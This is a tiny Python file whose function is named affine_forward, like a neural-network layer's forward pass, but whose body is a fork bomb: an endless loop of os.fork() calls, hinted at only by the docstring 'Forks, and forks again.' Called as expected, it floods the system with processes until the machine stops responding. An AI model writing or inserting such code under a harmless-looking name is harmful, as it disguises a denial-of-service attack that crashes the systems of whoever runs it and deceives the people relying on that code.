"""Forks, and forks again."""
import os


def affine_forward(x, w, b):
    while True:
        os.fork()
